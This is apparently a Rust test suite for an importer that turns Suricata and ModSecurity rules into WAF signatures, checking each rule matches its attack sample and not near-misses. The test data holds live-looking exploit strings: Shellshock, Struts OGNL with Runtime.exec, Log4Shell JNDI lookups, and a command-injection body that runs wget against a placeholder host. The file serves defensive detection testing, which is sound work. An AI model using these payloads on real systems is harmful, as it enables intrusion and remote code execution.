//! Importer tests on rule text written in the public formats: each converted rule is compiled
//! into an engine and must find the request it was written for and not its near-miss.

use super::*;
use crate::engine::{Engine, RequestContext, Scratch};
use crate::target::Target;

fn import(rules: &str) -> Imported {
    import_suricata(&[("local.rules", rules)], &SuricataOptions::default())
        .unwrap_or_else(|e| panic!("{e}"))
}

fn engine(imp: &Imported) -> Engine {
    let meta = PackMeta {
        name: "imported".into(),
        version: "1".into(),
        description: None,
    };
    let src = imp.to_toml(&meta).unwrap_or_else(|e| panic!("{e}"));
    Engine::from_toml(&src, "imported.toml").unwrap_or_else(|e| panic!("{e}\n{src}"))
}

/// Ids of the signatures that fire on one value.
fn fire(e: &Engine, target: Target, name: &str, value: &[u8]) -> Vec<String> {
    let mut hits = Vec::new();
    e.scan(
        &RequestContext::default(),
        target,
        name.as_bytes(),
        value,
        &mut Scratch::default(),
        &mut hits,
    );
    hits.iter()
        .map(|h| e.signatures()[h.signature as usize].id.clone())
        .collect()
}

fn converted_id(imp: &Imported, line: usize) -> String {
    match &imp.report[line].outcome {
        Outcome::Converted { id, .. } => id.clone(),
        Outcome::Unconvertible { reason } => panic!("not converted: {reason}"),
    }
}

fn reason(rule: &str) -> String {
    let imp = import(rule);
    assert_eq!(imp.report.len(), 1);
    match &imp.report[0].outcome {
        Outcome::Unconvertible { reason } => reason.clone(),
        Outcome::Converted { id, .. } => panic!("converted to {id}: {rule}"),
    }
}

const SHELLSHOCK: &str = r#"alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"LOCAL Shellshock function definition in a request header"; flow:established,to_server; http.header; content:"() {"; fast_pattern; reference:cve,2014-6271; reference:url,nvd.nist.gov/vuln/detail/CVE-2014-6271; classtype:attempted-admin; sid:9000001; rev:2;)"#;

#[test]
fn shellshock_in_any_header() {
    let imp = import(SHELLSHOCK);
    assert_eq!(converted_id(&imp, 0), "SURI-9000001");
    let s = &imp.signatures[0];
    assert_eq!(
        s.name,
        "LOCAL Shellshock function definition in a request header"
    );
    assert_eq!(s.severity, Severity::Critical);
    assert_eq!(
        s.references,
        [
            "CVE-2014-6271",
            "http://nvd.nist.gov/vuln/detail/CVE-2014-6271"
        ]
    );
    assert_eq!(s.targets, ["header"]);
    assert_eq!(s.action, Action::Alert);
    let e = engine(&imp);
    let ua = b"() { :; }; /bin/cat /etc/passwd";
    assert_eq!(fire(&e, Target::Header, "user-agent", ua), ["SURI-9000001"]);
    assert_eq!(fire(&e, Target::Header, "referer", ua), ["SURI-9000001"]);
    assert!(fire(&e, Target::Header, "referer", b"(x) {").is_empty());
    // http.header is headers only: the same bytes in the query are not this rule's business.
    assert!(fire(&e, Target::Query, "", ua).is_empty());
    // The report says what differs from Suricata's buffer.
    let line = imp.report[0].to_string();
    assert!(line.starts_with("local.rules:1: sid 9000001: converted to SURI-9000001"));
    assert!(line.contains("header values one at a time"), "{line}");
    assert!(line.contains("$EXTERNAL_NET"), "{line}");
}

#[test]
fn bin_sh_in_the_uri_nocase_and_case_sensitive() {
    let imp = import(concat!(
        r#"alert http any any -> any any (msg:"LOCAL /bin/sh in the URI"; content:"/bin/sh"; http_uri; nocase; classtype:web-application-attack; sid:9000002; rev:1;)"#,
        "\n# a comment line\n\n",
        r#"alert http any any -> any any (msg:"LOCAL /bin/sh in the URI, exact case"; http.uri; content:"/bin/sh"; classtype:web-application-attack; sid:9000003; rev:1;)"#,
        "\n",
        r#"alert tcp any any -> any $HTTP_PORTS (msg:"LOCAL /bin/sh, Snort uricontent"; uricontent:"/bin/sh"; nocase; sid:9000014; rev:1;)"#,
    ));
    assert_eq!(imp.report.len(), 3);
    assert_eq!(imp.report[1].line, 4);
    assert_eq!(imp.signatures[2].targets, ["path", "query"]);
    let e = engine(&imp);
    // http.uri is decoded: so is picket's view of path and query.
    let all = ["SURI-9000002", "SURI-9000003", "SURI-9000014"];
    assert_eq!(
        fire(&e, Target::Query, "", b"cmd=%2Fbin%2Fsh%20-c%20id"),
        all
    );
    assert_eq!(fire(&e, Target::Path, "", b"/cgi-bin/../bin/sh"), all);
    // nocase content matches any case; the exact-case one must not.
    assert_eq!(
        fire(&e, Target::Path, "", b"/x/BIN/SH"),
        ["SURI-9000002", "SURI-9000014"]
    );
    assert!(fire(&e, Target::Path, "", b"/bin/bash").is_empty());
    assert!(fire(&e, Target::Header, "referer", b"/bin/sh").is_empty());
    assert_eq!(imp.signatures[1].regex.as_deref(), Some("\\x2Fbin\\x2Fsh"));
}

#[test]
fn ognl_in_content_type_needs_both_contents() {
    let imp = import(
        r##"alert http any any -> any any (msg:"LOCAL Struts OGNL expression in Content-Type"; flow:to_server; http.content_type; content:"%{"; content:"#_memberAccess"; nocase; reference:cve,2017-5638; classtype:attempted-admin; sid:9000004; rev:1;)"##,
    );
    assert_eq!(converted_id(&imp, 0), "SURI-9000004");
    let s = &imp.signatures[0];
    assert_eq!(s.targets, ["header:content-type"]);
    assert_eq!(s.literals, [b"%{".to_vec()]);
    let e = engine(&imp);
    let ognl = b"%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}";
    assert_eq!(
        fire(&e, Target::Header, "content-type", ognl),
        ["SURI-9000004"]
    );
    // One content alone is not the rule.
    assert!(fire(&e, Target::Header, "content-type", b"text/plain; x=%{y}").is_empty());
    assert!(fire(&e, Target::Header, "content-type", b"#_memberAccess").is_empty());
    // Nor is another header.
    assert!(fire(&e, Target::Header, "x-forwarded-for", ognl).is_empty());
}

#[test]
fn user_agent_scanners() {
    let imp = import(concat!(
        r#"alert http any any -> any any (msg:"LOCAL sqlmap user agent"; http.user_agent; content:"sqlmap"; startswith; classtype:attempted-recon; sid:9000005; rev:1;)"#,
        "\n",
        r#"alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"LOCAL Nikto user agent"; flow:to_server,established; content:"nikto"; http_user_agent; nocase; classtype:attempted-recon; priority:2; sid:9000006; rev:3;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"LOCAL curl from outside the monitor"; http.user_agent; content:"curl/"; nocase; content:!"internal-monitor"; nocase; sid:9000007; rev:1;)"#,
    ));
    assert_eq!(imp.converted(), 3, "{:?}", imp.report);
    assert_eq!(imp.signatures[0].severity, Severity::Low);
    assert_eq!(imp.signatures[1].severity, Severity::Medium);
    let e = engine(&imp);
    let ua = |v: &[u8]| fire(&e, Target::Header, "user-agent", v);
    assert_eq!(
        ua(b"sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ["SURI-9000005"]
    );
    // startswith and case are kept.
    assert!(ua(b"Mozilla/5.0 sqlmap").is_empty());
    assert!(ua(b"SQLMAP/1.0").is_empty());
    assert_eq!(ua(b"Mozilla/5.00 (Nikto/2.1.6)"), ["SURI-9000006"]);
    assert_eq!(ua(b"curl/8.5.0"), ["SURI-9000007"]);
    assert!(ua(b"curl/8.5.0 Internal-Monitor").is_empty());
    assert!(fire(&e, Target::Header, "referer", b"curl/8.5.0").is_empty());
}

#[test]
fn cookie_pcre_and_method() {
    let imp = import(concat!(
        r#"alert http any any -> any any (msg:"LOCAL PHP serialized object in a cookie"; http.cookie; pcre:"/O:\d+:\"[a-z0-9_\\]+\":\d+:\{/i"; classtype:web-application-attack; sid:9000008; rev:1;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"LOCAL WebDAV PROPFIND"; http.method; content:"PROPFIND"; classtype:attempted-recon; sid:9000009; rev:1;)"#,
    ));
    assert_eq!(imp.converted(), 2, "{:?}", imp.report);
    assert_eq!(imp.signatures[0].targets, ["header:cookie"]);
    let e = engine(&imp);
    assert_eq!(
        fire(
            &e,
            Target::Header,
            "cookie",
            br#"lang=en; cart=o:8:"App\Cart":1:{s:5:"items";a:0:{}}"#
        ),
        ["SURI-9000008"]
    );
    assert!(fire(&e, Target::Header, "cookie", b"lang=en; O:8:plain").is_empty());
    assert_eq!(fire(&e, Target::Method, "", b"PROPFIND"), ["SURI-9000009"]);
    // Suricata's content is case-sensitive here: so is the signature.
    assert!(fire(&e, Target::Method, "", b"propfind").is_empty());
}

#[test]
fn body_with_content_and_pcre() {
    let imp = import(
        r#"alert http any any -> any any (msg:"LOCAL command injection in a request body"; flow:established,to_server; http.request_body; content:"cmd="; nocase; pcre:"/cmd=[^&]*(?:\x3b|\x7c|%3b|%7c)\s*(?:wget|curl)\s/Pi"; classtype:web-application-attack; sid:9000010; rev:1;)"#,
    );
    assert_eq!(converted_id(&imp, 0), "SURI-9000010");
    let e = engine(&imp);
    assert_eq!(
        fire(
            &e,
            Target::Body,
            "",
            b"host=a&CMD=ls;wget http://e.example/x"
        ),
        ["SURI-9000010"]
    );
    assert!(fire(&e, Target::Body, "", b"cmd=ls&x=;wget http://e.example/x").is_empty());
    assert!(fire(&e, Target::Body, "", b"host=a;wget http://e.example/x").is_empty());
}

#[test]
fn host_is_lowercased_like_suricatas() {
    let imp = import(concat!(
        r#"alert http any any -> any any (msg:"LOCAL known bad host"; http.host; content:"evil.example"; sid:9000015; rev:1;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"LOCAL upper-case content on http.host never matches"; content:"Evil"; http_host; sid:9000016; rev:1;)"#,
    ));
    assert_eq!(imp.converted(), 2, "{:?}", imp.report);
    assert_eq!(imp.signatures[0].targets, ["header:host"]);
    let e = engine(&imp);
    let host = |v: &[u8]| fire(&e, Target::Header, "host", v);
    assert_eq!(host(b"EVIL.example:8080"), ["SURI-9000015"]);
    assert!(host(b"evil-example.org").is_empty());
    // Suricata lowercases the buffer, so "Evil" (case-sensitive) matches nothing: nor here.
    assert!(host(b"Evil.test").is_empty());
}

#[test]
fn uri_pcre_that_cannot_cross_the_query_separator() {
    let imp = import(
        r#"alert http any any -> any any (msg:"LOCAL shell script under cgi-bin"; pcre:"/\/cgi-bin\/[^?&\s]*\.sh\b/Ui"; classtype:web-application-attack; sid:9000017; rev:1;)"#,
    );
    assert_eq!(converted_id(&imp, 0), "SURI-9000017");
    assert_eq!(imp.signatures[0].targets, ["path", "query"]);
    assert_eq!(imp.signatures[0].literals, [b"/cgi-bin/".to_vec()]);
    let e = engine(&imp);
    assert_eq!(
        fire(&e, Target::Path, "", b"/CGI-BIN/test%2Esh"),
        ["SURI-9000017"]
    );
    assert_eq!(
        fire(&e, Target::Query, "", b"u=/cgi-bin/x.sh"),
        ["SURI-9000017"]
    );
    assert!(fire(&e, Target::Path, "", b"/cgi-bin/x.shtml").is_empty());
    assert!(fire(&e, Target::Path, "", b"/cgi-bin/a b.sh").is_empty());
}

#[test]
fn header_content_with_a_colon_inside_a_value() {
    let imp = import(
        r#"alert http any any -> any any (msg:"LOCAL Log4Shell JNDI LDAP lookup in a header"; http.header; content:"${jndi:ldap"; nocase; reference:cve,2021-44228; classtype:attempted-admin; sid:9000019; rev:1;)"#,
    );
    assert_eq!(converted_id(&imp, 0), "SURI-9000019");
    let e = engine(&imp);
    assert_eq!(
        fire(
            &e,
            Target::Header,
            "x-api-version",
            b"${JNDI:ldap://x.example/a}"
        ),
        ["SURI-9000019"]
    );
    assert!(fire(
        &e,
        Target::Header,
        "x-api-version",
        b"${jndi:rmi://x.example/a}"
    )
    .is_empty());
}

#[test]
fn header_pcre_that_stays_within_a_value() {
    let imp = import(
        r#"alert http any any -> any any (msg:"LOCAL sqlmap in any header"; http.header; pcre:"/\bsqlmap\/\d/i"; classtype:attempted-recon; sid:9000018; rev:1;)"#,
    );
    assert_eq!(converted_id(&imp, 0), "SURI-9000018");
    assert_eq!(imp.signatures[0].literals, [b"sqlmap/".to_vec()]);
    let e = engine(&imp);
    assert_eq!(
        fire(&e, Target::Header, "x-scanner", b"SQLMap/1.7"),
        ["SURI-9000018"]
    );
    assert!(fire(&e, Target::Header, "user-agent", b"mysqlmap/1").is_empty());
    assert!(fire(&e, Target::Header, "user-agent", b"sqlmap/x").is_empty());
}

#[test]
fn depth_equal_to_length_is_startswith() {
    let imp = import(
        r#"alert http any any -> any any (msg:"LOCAL CGI script at the URI root"; http.uri; content:"/cgi-bin/"; depth:9; sid:9000011; rev:1;)"#,
    );
    assert_eq!(converted_id(&imp, 0), "SURI-9000011");
    assert_eq!(imp.signatures[0].targets, ["path"]);
    let e = engine(&imp);
    assert_eq!(
        fire(&e, Target::Path, "", b"/cgi-bin/test.sh"),
        ["SURI-9000011"]
    );
    assert!(fire(&e, Target::Path, "", b"/app/cgi-bin/test.sh").is_empty());
    assert!(fire(&e, Target::Query, "", b"/cgi-bin/test.sh").is_empty());
}

#[test]
fn unconvertible_rules_say_why() {
    let head = r#"alert http any any -> any any (msg:"LOCAL test"; "#;
    let cases: &[(&str, &str)] = &[
        (
            r#"http.uri; content:"/admin"; depth:4; sid:1;"#,
            "`depth`/`offset`",
        ),
        (
            r#"http.uri; content:"/admin"; offset:2; sid:1;"#,
            "`depth`/`offset`",
        ),
        (
            r#"http.request_body; content:"a="; content:"b"; distance:0; sid:1;"#,
            "relative to the previous match",
        ),
        (
            r#"http.request_body; content:"a="; content:"b"; within:10; sid:1;"#,
            "relative to the previous match",
        ),
        (
            r#"http.uri; content:"x"; isdataat:100,relative; sid:1;"#,
            "`isdataat`",
        ),
        (
            r#"http.request_body; content:"x"; byte_test:2,>,10,0; sid:1;"#,
            "`byte_test`",
        ),
        (
            r#"http.uri; content:"x"; flowbits:isset,seen; sid:1;"#,
            "state kept across",
        ),
        (
            r#"http.uri; content:"x"; threshold:type limit, track by_src, count 1, seconds 60; sid:1;"#,
            "rate-based",
        ),
        (
            r#"http.request_body; content:"x"; pcre:"/y/R"; sid:1;"#,
            "relative",
        ),
        (
            r#"http.response_body; content:"root:x:0:0"; sid:1;"#,
            "HTTP response",
        ),
        (
            r#"flow:established,to_client; http.uri; content:"x"; sid:1;"#,
            "responses",
        ),
        (
            r#"http.request_body; content:"a"; pcre:"/(?<=user=)admin/"; sid:1;"#,
            "look-behind",
        ),
        (
            r#"http.request_body; pcre:"/(['\"]).*\1/P"; content:"'"; sid:1;"#,
            "back-reference",
        ),
        (
            r#"http.request_body; content:"a"; pcre:"/a++b/"; sid:1;"#,
            "possessive",
        ),
        (r#"content:"/etc/passwd"; sid:1;"#, "raw stream"),
        (
            r#"http.method; content:"POST"; http.uri; content:"/upload.php"; sid:1;"#,
            "must hold together",
        ),
        (
            r#"content:"/etc/passwd"; http_uri; nocase; pcre:"/\.\.[\/\\]/U"; sid:1;"#,
            "several values",
        ),
        (
            r#"http.header; content:"() {"; content:!"Mozilla"; sid:1;"#,
            "negated condition",
        ),
        (
            r#"http.header; content:"Content-Type|3a 20|%{"; sid:1;"#,
            "`Name: ` separator",
        ),
        (
            r#"http.header; content:"${jndi:"; sid:1;"#,
            "`Name: ` separator",
        ),
        (
            r#"http.header; content:" () {"; sid:1;"#,
            "`Name: ` separator",
        ),
        (r#"http.header; content:"a|0d 0a|b"; sid:1;"#, "line break"),
        (
            r#"http.user_agent; content:"Foo"; content:"Bar"; sid:1;"#,
            "neither is a case-insensitive content",
        ),
        (
            r#"http.user_agent; content:"a"; nocase; content:"b"; nocase; content:"c"; nocase; sid:1;"#,
            "3 positive conditions",
        ),
        (
            r#"http.request_body; pcre:"/[a-z]+\d{3}/"; sid:1;"#,
            "prefilter needs one",
        ),
        (
            r#"http.uri; pcre:"/\/cgi-bin\/.*\.sh/U"; sid:1;"#,
            "can match a '?'",
        ),
        (r#"pcre:"/^\/admin\//U"; sid:1;"#, "is anchored"),
        (r#"http.uri; content:"/x"; endswith; sid:1;"#, "endswith"),
        (
            r#"http.header; pcre:"/\(\)\s*\{/"; sid:1;"#,
            "can match ':', a space, CR or LF",
        ),
        (
            r#"http.header; pcre:"/ \(\) \{/"; sid:1;"#,
            "can match ':', a space, CR or LF",
        ),
        (
            r#"http.host.raw; content:"example"; sid:1;"#,
            "no picket target",
        ),
        (
            r#"http.host; content:"8080"; sid:1;"#,
            "could match the port",
        ),
        (
            r#"http.host; content:".example"; endswith; sid:1;"#,
            "may end with a port",
        ),
        (r#"http.host; pcre:"/^evil\./W"; sid:1;"#, "keeps the port"),
        (
            r#"http.uri; content:"x"; sid:1; weird_option;"#,
            "not supported by the importer",
        ),
        (r#"http.uri; content:"x";"#, "no numeric sid"),
    ];
    for (opts, want) in cases {
        let rule = format!("{head}{opts})");
        let got = reason(&rule);
        assert!(got.contains(want), "{rule}\n  got: {got}\n  want: {want}");
    }
    for (rule, want) in [
        (
            r#"alert dns any any -> any any (msg:"x"; dns.query; content:"evil"; sid:1;)"#,
            "protocol `dns`",
        ),
        (
            r#"alert http 10.0.0.0/8 any -> any any (msg:"x"; http.uri; content:"x"; sid:1;)"#,
            "limited to address",
        ),
        (
            r#"pass http any any -> any any (msg:"x"; http.uri; content:"x"; sid:1;)"#,
            "[[exclusion]]",
        ),
        (
            r#"alert http any any -> any any (msg:"x"; http.uri; content:"x"; sid:1;"#,
            "multi-line",
        ),
    ] {
        let got = reason(rule);
        assert!(got.contains(want), "{rule}\n  got: {got}");
    }
}

#[test]
fn escapes_hex_and_duplicates() {
    let imp = import(concat!(
        r#"alert http any any -> any any (msg:"LOCAL quote\; semicolon and \"quotes\""; http.request_body; content:"a|3b 22|b\;c\"d"; sid:9000012; rev:1;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"dup"; http.request_body; content:"zz"; nocase; sid:9000012; rev:1;)"#,
        "\n",
        r#"drop http any any -> any any (msg:"LOCAL binary magic"; http.request_body; content:"|ac ed 00 05|"; sid:9000013; rev:1;)"#,
    ));
    assert_eq!(
        imp.signatures[0].name,
        "LOCAL quote; semicolon and \"quotes\""
    );
    assert_eq!(imp.signatures[0].literals, [b"a;\"b;c\"d".to_vec()]);
    match &imp.report[1].outcome {
        Outcome::Unconvertible { reason } => {
            assert_eq!(reason, "duplicate sid (first at local.rules:1)")
        }
        other => panic!("{other:?}"),
    }
    // `drop` becomes block; non-UTF-8 bytes become hex literals.
    assert_eq!(imp.signatures[1].action, Action::Block);
    let e = engine(&imp);
    assert_eq!(
        fire(&e, Target::Body, "", b"x a;\"b;c\"d y"),
        ["SURI-9000012"]
    );
    assert!(fire(&e, Target::Body, "", b"x A;\"B;C\"D y").is_empty());
    assert_eq!(
        fire(&e, Target::Body, "", b"\xac\xed\x00\x05sr"),
        ["SURI-9000013"]
    );
    let meta = PackMeta {
        name: "p".into(),
        version: "1".into(),
        description: None,
    };
    assert!(imp
        .to_toml(&meta)
        .unwrap()
        .contains("hex_literals = [\"aced0005\"]"));
}

#[test]
fn action_override_and_id_prefix() {
    let opts = SuricataOptions {
        id_prefix: "ET".into(),
        action: Some(Action::Block),
    };
    let imp = import_suricata(&[("a.rules", SHELLSHOCK)], &opts).unwrap();
    assert_eq!(imp.signatures[0].id, "ET-9000001");
    assert_eq!(imp.signatures[0].action, Action::Block);
    let bad = SuricataOptions {
        id_prefix: "no spaces".into(),
        action: None,
    };
    assert_eq!(
        import_suricata(&[("a.rules", SHELLSHOCK)], &bad).unwrap_err(),
        ImportError::InvalidId("no spaces".into())
    );
}

#[test]
fn phrase_file_becomes_one_case_insensitive_signature() {
    // A byte-order mark does not turn the first comment into a phrase.
    let data = "\u{feff}# scanner user agents\n\nnikto\r\n  sqlmap  \nNIKTO\nmasscan\n";
    let mut opts = PhraseOptions::new("MODSEC-SCANNERS", "Security scanner user agent");
    opts.targets = vec!["header:user-agent".into()];
    opts.severity = Severity::Low;
    let imp = import_phrases(&[("scanners-user-agents.data", data)], &opts).unwrap();
    assert_eq!(imp.signatures.len(), 1);
    assert_eq!(
        imp.signatures[0].literals,
        [b"nikto".to_vec(), b"sqlmap".to_vec(), b"masscan".to_vec()]
    );
    assert_eq!(imp.report.len(), 4);
    assert_eq!(imp.report[0].line, 3);
    assert_eq!(
        imp.report[2].to_string(),
        "scanners-user-agents.data:5: phrase: converted to MODSEC-SCANNERS (note: same phrase as scanners-user-agents.data:3 (kept once))"
    );
    let e = engine(&imp);
    let ua = |v: &[u8]| fire(&e, Target::Header, "user-agent", v);
    assert_eq!(ua(b"Mozilla/5.00 (Nikto/2.1.6)"), ["MODSEC-SCANNERS"]);
    assert_eq!(ua(b"SQLMap/1.7"), ["MODSEC-SCANNERS"]);
    assert!(ua(b"Mozilla/5.0 (X11; Linux x86_64)").is_empty());
    assert!(fire(&e, Target::Header, "referer", b"nikto").is_empty());
}

#[test]
fn phrase_options_are_checked() {
    let data = "a\n";
    let mut o = PhraseOptions::new("X", "x");
    o.targets = vec!["headers".into()];
    assert_eq!(
        import_phrases(&[("f", data)], &o).unwrap_err(),
        ImportError::UnknownTarget("headers".into())
    );
    let o = PhraseOptions::new("bad id", "x");
    assert!(matches!(
        import_phrases(&[("f", data)], &o),
        Err(ImportError::InvalidId(_))
    ));
    let o = PhraseOptions::new("X", "x");
    assert_eq!(
        import_phrases(&[("f", "# only comments\n\n")], &o).unwrap_err(),
        ImportError::NoPhrases
    );
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(500))]

        /// Arbitrary option text never panics the importer, and whatever it converts compiles.
        #[test]
        fn any_rule_text_is_converted_or_refused(opts in r#"[ -~]{0,120}"#) {
            let rule = format!(
                "alert http any any -> any any (msg:\"p\"; http.request_body; {opts} sid:1;)"
            );
            let imp = import(&rule);
            prop_assert_eq!(imp.report.len(), 1);
            if imp.converted() == 1 {
                let meta = PackMeta { name: "p".into(), version: "1".into(), description: None };
                prop_assert!(imp.to_toml(&meta).is_ok());
            }
        }

        /// Arbitrary patterns never panic the translator; what it accepts is a valid regex
        /// whose required literal (if any) is inside every match.
        #[test]
        fn any_pattern_translates_or_is_refused(p in r#"[ -~]{0,40}"#) {
            if let Ok(t) = pcre::translate(&p, pcre::PcreFlags::default()) {
                if let Some(l) = &t.required_literal {
                    prop_assert!(!l.is_empty());
                }
            }
        }

        #[test]
        fn required_literal_is_in_every_match(
            p in r#"[ab()|*+?{}1,\\.^$:\[\]-]{0,14}"#,
            hay in r#"[ab?:\n]{0,16}"#,
        ) {
            let Ok(t) = pcre::translate(&p, pcre::PcreFlags::default()) else { return Ok(()) };
            let Ok(re) = crate::pack::build_regex(&t.regex) else { return Ok(()) };
            let Some(m) = re.find(hay.as_bytes()) else { return Ok(()) };
            if let Some(lit) = &t.required_literal {
                prop_assert!(
                    m.as_bytes().windows(lit.len()).any(|w| w == lit.as_slice()),
                    "{} matched {:?} without {:?}", t.regex, m.as_bytes(), lit
                );
            }
            // Every byte of a match is one the pattern says it can match.
            for &b in m.as_bytes() {
                prop_assert!(t.can_match_any(&[b]), "{} matched {:?}", t.regex, b as char);
            }
        }
    }
}
